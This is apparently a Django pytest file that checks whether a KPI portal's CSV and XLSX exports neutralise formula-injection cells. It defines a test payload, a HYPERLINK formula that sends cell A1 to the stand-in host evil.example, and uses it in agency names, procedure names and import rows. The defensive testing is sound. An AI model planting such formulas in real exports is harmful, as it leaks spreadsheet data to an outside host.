"""Exports neutralise formula cells: a name starting with =, +, -, @, a tab or a carriage return
never runs as a formula when the file is opened in a spreadsheet.

CSV: such a cell gets a leading apostrophe. XLSX: it is stored as a text cell with exactly the
typed characters (openpyxl would otherwise write "=…" as a formula). The shared place is
`kpi_portal.spreadsheets`, used by every writer checked here.
"""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest
from django.core.management import call_command
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from directives.exports import pilot_compiled_xlsx
from dossiers import import_selectors
from dossiers.models import ImportKind
from dossiers.services import import_file
from kpi_portal.spreadsheets import neutralise_csv_cell, neutralise_workbook
from reports.services import kpi_full_recompute
from tests.dossiers.conftest import dossier_csv
from tests.reports.kpi_data import end_of_day, make_dossier, make_tree, vn

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_prefix_is_quoted_in_csv(prefix):
    assert neutralise_csv_cell(prefix + "1+1") == "'" + prefix + "1+1"


def test_harmless_values_are_left_alone():
    assert neutralise_csv_cell("Sở Tư pháp") == "Sở Tư pháp"
    assert neutralise_csv_cell(-5) == -5  # a number is a number, not text
    assert neutralise_csv_cell("") == ""


def test_a_workbook_keeps_formula_looking_text_as_text(tmp_path):
    workbook = Workbook()
    workbook.active.append([HOSTILE, "+1", 3])
    assert neutralise_workbook(workbook) == 1
    workbook.save(tmp_path / "x.xlsx")
    cells = next(load_workbook(tmp_path / "x.xlsx").active.iter_rows())
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    assert cells[0].value == HOSTILE


@pytest.fixture
def hostile_facts(db):
    """Facts for June 2023 of a tree whose department is named like a formula."""
    tree = make_tree()
    tree.department.name = HOSTILE
    tree.department.save()
    make_dossier(
        tree.department,
        tree.land,
        received_at=vn(2023, 6, 1),
        due_at=end_of_day(2023, 6, 9),
        finished_at=vn(2023, 6, 5),
    )
    kpi_full_recompute()
    return tree


def _xlsx_cells(path):
    return [c for sheet in load_workbook(path).worksheets for row in sheet for c in row]


@pytest.mark.parametrize("command", ["export_kpis", "export_ranking"])
def test_exports_by_command_neutralise_an_agency_name(hostile_facts, tmp_path, command):
    csv_path, xlsx_path = tmp_path / "out.csv", tmp_path / "out.xlsx"
    call_command(command, "--period", "2023-06", "--format", "csv", "-o", str(csv_path))
    call_command(command, "--period", "2023-06", "--format", "xlsx", "-o", str(xlsx_path))
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells
    named = [c for c in _xlsx_cells(xlsx_path) if c.value == HOSTILE]
    assert named, "the department's name is in the workbook"
    assert all(c.data_type == "s" for c in named)
    assert not [c for c in _xlsx_cells(xlsx_path) if c.data_type == "f"]


def test_the_pilot_list_keeps_a_procedure_name_as_text(tmp_path):
    procedure = SimpleNamespace(code="1.000001", name=HOSTILE, domain=SimpleNamespace(name="@x"))
    row = SimpleNamespace(
        agency=SimpleNamespace(name="=1+1"),
        procedure=procedure,
        volume=12,
        submitted_at=timezone.now(),
        late=False,
    )
    directive = SimpleNamespace(
        number="01/CT-UBND",
        title="Chỉ thị về cải cách thủ tục hành chính",
        issuer="UBND tỉnh Quảng Trị",
        issued_on=timezone.localdate(),
    )
    task = SimpleNamespace(
        directive=directive, title="Đề xuất thủ tục thí điểm", due_on=timezone.localdate()
    )
    path = tmp_path / "pilot.xlsx"
    path.write_bytes(pilot_compiled_xlsx(task=task, rows=[row]))
    cells = {c.value: c.data_type for c in _xlsx_cells(path) if c.value is not None}
    assert cells[HOSTILE] == "s"
    assert cells["=1+1"] == "s"
    assert "f" not in cells.values()


def test_the_error_rows_csv_of_an_import_neutralises_the_cells(catalogue, tmp_path):
    path = tmp_path / "bad.csv"
    # Row 2 is rejected (its fee is not a number); its cells come back in the error CSV.
    path.write_text(
        dossier_csv([{"code": "=1+1", "fee": "@SUM(A1)", "channel": "\tTrực tuyến"}]),
        encoding="utf-8",
    )
    batch = import_file(kind=ImportKind.DOSSIERS, path=path, dry_run=True)
    assert batch.rejected == 1
    rows = list(csv.reader(io.StringIO(import_selectors.batch_errors_csv(batch=batch).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=1+1" in cells
    assert "'@SUM(A1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
